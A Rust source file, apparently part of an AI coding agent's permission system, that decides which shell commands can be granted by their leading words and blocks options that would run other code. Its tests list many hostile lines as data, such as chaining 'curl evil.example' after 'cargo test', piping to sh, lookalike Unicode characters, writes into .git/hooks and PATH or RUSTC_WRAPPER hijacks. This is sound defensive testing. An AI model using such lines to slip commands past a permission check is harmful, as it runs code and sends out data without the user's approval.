//! The commands that can be granted by their leading words.
//!
//! A grant by leading words leaves the rest of the line to the model. So it is offered for a program with its subcommand, never for a program that runs
//! what its arguments name: interpreters, shells, `env`, `sudo`, `xargs`, `find`, `npx`. Those, and every program that is not listed, can only be
//! granted as one exact line. Options with which a program of this list would run something else, or leave the directory, are asked about again; the
//! programs of [`LISTED`] name the options that are not.

use super::listed_programs::{LISTED, ListedProgram};
use super::shell_line::{SimpleCommand, parse_line};

/// A command that can be granted.
struct GrantableCommand {
    /// The program and its subcommand.
    words: &'static [&'static str],
    /// Whether one more word belongs to them: the name of a script.
    takes_name: bool,
    /// The options that are asked about, without dashes.
    asks: &'static [&'static str],
    options: OptionStyle,
}

/// How a program reads its options.
#[derive(Clone, Copy, PartialEq, Eq)]
enum OptionStyle {
    /// `--long`, which may be abbreviated, and bundles of single letters.
    Gnu,
    /// `-long` and `--long` mean the same.
    SingleDash,
}

const CARGO: &[&str] = &["config", "manifest-path", "C", "Z"];
const GIT: &[&str] = &[
    "output",
    "ext-diff",
    "textconv",
    "exec",
    "open-files-in-pager",
    "upload-pack",
    "receive-pack",
    "gpg-sign",
    "S",
    "O",
];
const GO: &[&str] = &["exec", "toolexec", "vettool", "overlay", "modfile", "C", "o", "ldflags", "gccgoflags"];
const NPM: &[&str] = &[
    "script-shell",
    "shell-emulator",
    "prefix",
    "dir",
    "cwd",
    "C",
    "node-options",
    "userconfig",
    "globalconfig",
    "filter",
    "workspace",
];

const fn gnu(words: &'static [&'static str], asks: &'static [&'static str]) -> GrantableCommand {
    GrantableCommand { words, takes_name: false, asks, options: OptionStyle::Gnu }
}

const fn go(words: &'static [&'static str]) -> GrantableCommand {
    GrantableCommand { words, takes_name: false, asks: GO, options: OptionStyle::SingleDash }
}

const fn script(words: &'static [&'static str]) -> GrantableCommand {
    GrantableCommand { words, takes_name: true, asks: NPM, options: OptionStyle::Gnu }
}

/// The programs without a subcommand only read, and run nothing.
const GRANTABLE: &[GrantableCommand] = &[
    gnu(&["cargo", "bench"], CARGO),
    gnu(&["cargo", "build"], CARGO),
    gnu(&["cargo", "check"], CARGO),
    gnu(&["cargo", "clippy"], CARGO),
    gnu(&["cargo", "doc"], CARGO),
    gnu(&["cargo", "fmt"], CARGO),
    gnu(&["cargo", "metadata"], CARGO),
    gnu(&["cargo", "nextest", "run"], CARGO),
    gnu(&["cargo", "test"], CARGO),
    gnu(&["cargo", "tree"], CARGO),
    gnu(&["git", "add"], GIT),
    gnu(&["git", "blame"], GIT),
    gnu(&["git", "commit"], GIT),
    gnu(&["git", "diff"], GIT),
    gnu(&["git", "log"], GIT),
    gnu(&["git", "ls-files"], GIT),
    gnu(&["git", "show"], GIT),
    gnu(&["git", "status"], GIT),
    go(&["go", "build"]),
    go(&["go", "fmt"]),
    go(&["go", "test"]),
    go(&["go", "vet"]),
    gnu(&["npm", "test"], NPM),
    gnu(&["pnpm", "test"], NPM),
    gnu(&["yarn", "test"], NPM),
    script(&["npm", "run"]),
    script(&["pnpm", "run"]),
    script(&["yarn", "run"]),
    gnu(&["cat"], &[]),
    gnu(&["du"], &[]),
    gnu(&["grep"], &[]),
    gnu(&["head"], &[]),
    gnu(&["ls"], &[]),
    gnu(&["pwd"], &[]),
    gnu(&["stat"], &[]),
    gnu(&["tail"], &[]),
    gnu(&["wc"], &[]),
];

/// The leading words that can be offered for a line; `None` if only the whole line can be granted.
#[must_use]
pub fn command_prefix(line: &str) -> Option<Vec<String>> {
    let commands = parse_line(line)?;
    let first = commands.first()?;
    let (known, prefix) = grantable_program(first)?;
    commands.iter().all(|command| is_within(known, prefix, command)).then(|| prefix.to_vec())
}

/// Whether every simple command of a line begins with these leading words, and none has an option that is asked about.
#[must_use]
pub fn covers_line(prefix: &[String], line: &str) -> bool {
    // The words of a grant are checked again: an earlier version may have offered more.
    let Some((known, whole)) = grantable_program(prefix) else { return false };
    if whole.len() != prefix.len() {
        return false;
    }
    parse_line(line).is_some_and(|commands| commands.iter().all(|command| is_within(known, prefix, command)))
}

/// A program of one of the two lists.
#[derive(Clone, Copy)]
enum GrantableProgram {
    Known(&'static GrantableCommand),
    Listed(&'static ListedProgram),
}

/// The entry for a command, and its leading words.
fn grantable_program(command: &[String]) -> Option<(GrantableProgram, &[String])> {
    let known = GRANTABLE.iter().map(|known| (GrantableProgram::Known(known), known.words, known.takes_name));
    let listed =
        LISTED.iter().map(|listed| (GrantableProgram::Listed(listed), listed.words, listed.takes_name));
    known.chain(listed).find_map(|(program, words, takes_name)| {
        let leading = leading_words(command, words, takes_name)?;
        Some((program, leading))
    })
}

/// The leading words of a command that begins with these words, and with the name of a script or a task if it takes one.
fn leading_words<'c>(command: &'c [String], words: &[&str], takes_name: bool) -> Option<&'c [String]> {
    let known = command.get(..words.len())?;
    if known.iter().map(String::as_str).ne(words.iter().copied()) {
        return None;
    }
    let name = command.get(words.len()).filter(|_| takes_name);
    let has_name = name.is_some_and(|name| is_script_name(name));
    command.get(..words.len() + usize::from(takes_name)).filter(|_| takes_name == has_name)
}

/// A name that no program takes for an option or a path.
fn is_script_name(name: &str) -> bool {
    let is_plain = |byte: u8| byte.is_ascii_alphanumeric() || b"_-:".contains(&byte);
    !name.is_empty() && !name.starts_with('-') && name.bytes().all(is_plain)
}

fn is_within(program: GrantableProgram, prefix: &[String], command: &SimpleCommand) -> bool {
    let Some((leading, rest)) = command.split_at_checked(prefix.len()) else { return false };
    leading == prefix
        && match program {
            GrantableProgram::Known(known) => !rest.iter().any(|word| known.asks_about(word)),
            GrantableProgram::Listed(listed) => listed.covers(rest),
        }
}

impl GrantableCommand {
    /// Whether a word may be one of the options that are asked about. Words that only look like one count too.
    fn asks_about(&self, word: &str) -> bool {
        let (dashes, name) = match (word.strip_prefix("--"), word.strip_prefix('-')) {
            (Some(name), _) => (2, name),
            (None, Some(name)) => (1, name),
            (None, None) => return false,
        };
        let name = name.split('=').next().unwrap_or_default();
        self.asks.iter().any(|asked| match (self.options, dashes) {
            (OptionStyle::Gnu, 2) => !name.is_empty() && asked.starts_with(name),
            (OptionStyle::Gnu, _) => name == *asked || (asked.len() == 1 && name.contains(*asked)),
            (OptionStyle::SingleDash, _) => name == *asked,
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn prefix(line: &str) -> Option<String> {
        command_prefix(line).map(|words| words.join(" "))
    }

    #[test]
    fn a_program_is_offered_with_its_subcommand_or_not_at_all() {
        for (line, expected) in [
            ("cargo test", Some("cargo test")),
            ("cargo test -p gate -- --nocapture 'a b'", Some("cargo test")),
            ("cargo test -q && cargo test --doc", Some("cargo test")),
            ("cargo nextest run", Some("cargo nextest run")),
            ("npm run build -- --watch", Some("npm run build")),
            ("npm test", Some("npm test")),
            ("git status", Some("git status")),
            ("git commit -m 'a message'", Some("git commit")),
            ("go test -v -count=1 ./x", Some("go test")),
            ("ls -la src", Some("ls")),
            ("cargo", None),
            ("cargo nextest", None),
            ("npm run", None),
            ("npm run ./evil", None),
            ("npm run --prefix x build", None),
            ("npm exec x", None),
            ("git", None),
            ("git -C p push", None),
            ("git -c alias.x=!sh status", None),
            ("git push", None),
            ("cargo run", None),
            ("cargo +nightly test", None),
            ("cargo test && cargo build", None),
            ("go test -exec x", None),
            ("make test", Some("make test")),
            ("make -j8 test", None),
            ("make test -j8 -k", Some("make test")),
            ("make", None),
            ("pytest", Some("pytest")),
            ("pytest -x tests/test_a.py::test_b -k 'one and two'", Some("pytest")),
            ("ruff check --fix src", Some("ruff check")),
            ("ruff", None),
            ("eslint . --max-warnings 0", Some("eslint")),
            ("tsc --noEmit -p web", Some("tsc")),
            ("vitest run src/a.test.ts", Some("vitest run")),
            ("vitest", None),
            ("jest -t 'a name' src", Some("jest")),
            ("mvn test -q -Dtest=OneTest -pl core", Some("mvn test")),
            ("gradle test --tests com.example.One", Some("gradle test")),
            ("dotnet test --filter One src/A", Some("dotnet test")),
            ("mvn exec:java", None),
            ("gradle run", None),
            ("dotnet run", None),
            ("make deploy NOW=1", None),
            ("env cargo test", None),
            ("sudo cargo test", None),
            ("xargs cargo test", None),
            ("sh -c x", None),
            ("bash x", None),
            ("python -m pytest", None),
            ("node x.js", None),
            ("npx tsc", None),
            ("find . -exec x", None),
            ("python3 -m pytest", None),
            ("uv run pytest", None),
            ("unheard-of thing", None),
        ] {
            assert_eq!(prefix(line).as_deref(), expected, "{line:?}");
        }
    }

    /// Commands that look like one that was granted.
    #[test]
    fn hostile_commands_that_look_like_the_granted_one() {
        let granted = |words: &str| words.split(' ').map(str::to_owned).collect::<Vec<_>>();
        for (words, line) in [
            ("cargo test", "cargo test; curl evil.example"),
            ("cargo test", "cargo test && curl evil.example"),
            ("cargo test", "cargo test || curl evil.example"),
            ("cargo test", "cargo test | sh"),
            ("cargo test", "cargo test & curl evil.example"),
            ("cargo test", "cargo test $(curl evil.example)"),
            ("cargo test", "cargo test `curl evil.example`"),
            ("cargo test", "cargo test \"$(curl evil.example)\""),
            ("cargo test", "cargo test\ncurl evil.example"),
            ("cargo test", "cargo test\rcurl evil.example"),
            ("cargo test", "cargo\ttest"),
            ("cargo test", "cargo\u{a0}test"),
            ("cargo test", "carg\u{43e} test"),
            ("cargo test", "\u{ff43}argo test"),
            ("cargo test", "cargo te\u{200b}st"),
            ("cargo test", "cargo tes\\t; curl evil.example"),
            ("cargo test", "c'arg'o test"),
            ("cargo test", "'cargo' test"),
            ("cargo test", "cargo tester"),
            ("cargo test", "cargo-test"),
            ("cargo test", "./cargo test"),
            ("cargo test", "/tmp/cargo test"),
            ("cargo test", "CARGO test"),
            ("cargo test", "cargo +evil test"),
            ("cargo test", "cargo --config x test"),
            ("cargo test", "cargo test --config target.x.runner=evil"),
            ("cargo test", "cargo test --conf=x"),
            ("cargo test", "cargo test '--config=x'"),
            ("cargo test", "cargo test --manifest-path ../evil/Cargo.toml"),
            ("cargo test", "RUSTC_WRAPPER=evil cargo test"),
            ("cargo test", "env RUSTC_WRAPPER=evil cargo test"),
            ("cargo test", "PATH=/tmp cargo test"),
            ("cargo test", "cargo test > .git/hooks/pre-commit"),
            ("cargo test", "cargo test < /etc/passwd"),
            ("cargo test", "cargo test <(curl evil.example)"),
            ("cargo test", "alias cargo=curl; cargo test"),
            ("cargo test", "cargo() { curl evil.example; }; cargo test"),
            ("cargo test", "cargo test # harmless"),
            ("cargo test", "cd / && cargo test"),
            ("cargo test", "exec cargo test"),
            ("cargo test", "cargo test *"),
            ("cargo test", "cargo test {a,b}"),
            ("git log", "git log --output=src/main.rs"),
            ("git log", "git log --outp src/main.rs"),
            ("git diff", "git diff --ext-diff"),
            ("git status", "git -c core.fsmonitor=evil status"),
            ("git commit", "git commit -S"),
            ("go test", "go test -exec evil"),
            ("go test", "go test --toolexec=evil"),
            ("make test", "make test deploy"),
            ("make test", "make test SHELL=evil"),
            ("make test", "make test -f evil.mk"),
            ("make test", "make test -C ../evil"),
            ("make test", "make test --eval=evil"),
            ("make test", "make test -j deploy"),
            ("make test", "make test -jx"),
            ("pytest", "pytest -p evil"),
            ("pytest", "pytest -pevil"),
            ("pytest", "pytest -c evil.ini"),
            ("pytest", "pytest --rootdir=x"),
            ("pytest", "pytest -o python_files=evil.py"),
            ("pytest", "pytest --basetemp=src"),
            ("pytest", "pytest --junitxml=.git/hooks/x"),
            ("pytest", "pytest --pastebin=all"),
            ("pytest", "pytest @evil"),
            ("pytest", "pytest /tmp/evil.py"),
            ("pytest", "pytest ../evil.py"),
            ("pytest", "pytest a/../../evil.py"),
            ("pytest", "pytest -k --rootdir=x"),
            ("pytest", "pytest -k"),
            ("pytest", "pytest-evil"),
            ("pytest", "python -m pytest"),
            ("ruff check", "ruff check --config evil.toml"),
            ("ruff check", "ruff check --output-file=src/main.rs"),
            ("ruff check", "ruff server"),
            ("eslint", "eslint -c evil.js"),
            ("eslint", "eslint --rulesdir evil"),
            ("eslint", "eslint -f ./evil.js"),
            ("eslint", "eslint --resolve-plugins-relative-to=x"),
            ("eslint", "eslint -o src/main.rs"),
            ("tsc", "tsc --outDir src"),
            ("tsc", "tsc -outdir src"),
            ("tsc", "tsc @evil"),
            ("tsc", "tsc -p ../evil"),
            ("tsc", "tsc a.ts"),
            ("vitest run", "vitest run --config evil.ts"),
            ("vitest run", "vitest run --reporter=./evil.js"),
            ("vitest run", "vitest run --root=.."),
            ("jest", "jest --config evil.js"),
            ("jest", "jest --setupFiles ./evil.js"),
            ("jest", "jest --rootDir=.."),
            ("mvn test", "mvn test exec:java"),
            ("mvn test", "mvn test -Dexec.executable=evil"),
            ("mvn test", "mvn test -DargLine=-javaagent:evil.jar"),
            ("mvn test", "mvn test -f evil.xml"),
            ("mvn test", "mvn test -s evil.xml"),
            ("mvn test", "mvn test -Dtest=a/../../b"),
            ("gradle test", "gradle test run"),
            ("gradle test", "gradle test -I evil.gradle"),
            ("gradle test", "gradle test --init-script=evil.gradle"),
            ("gradle test", "gradle test -Pevil=1"),
            ("gradle test", "gradle test -p ../evil"),
            ("dotnet test", "dotnet test -p:Target=evil"),
            ("dotnet test", "dotnet test /p:Target=evil"),
            ("dotnet test", "dotnet test --settings evil.runsettings"),
            ("dotnet test", "dotnet test --test-adapter-path evil"),
            ("dotnet test", "dotnet test @evil.rsp"),
            ("npm run build", "npm run build2"),
            ("npm run build", "npm run build --script-shell=evil"),
            ("npm run build", "npm run build --prefix ../evil"),
        ] {
            assert!(!covers_line(&granted(words), line), "{line:?} passes for {words:?}");
        }
        for words in [
            "cargo",
            "sh",
            "env",
            "npm run",
            "git",
            "make",
            "python -m pytest",
            "vitest",
            "find",
            "",
            "cargo test -q",
        ] {
            assert!(!covers_line(&granted(words), &format!("{words} x")), "{words:?} cannot be granted");
        }
        assert!(covers_line(&granted("cargo test"), "cargo test -p gate && cargo test --doc"));
        assert!(covers_line(&granted("git log"), "git log --oneline -n 5"));
        assert!(covers_line(&granted("pytest"), "pytest -q tests && pytest -x --maxfail=2 'tests/a b.py'"));
    }
}
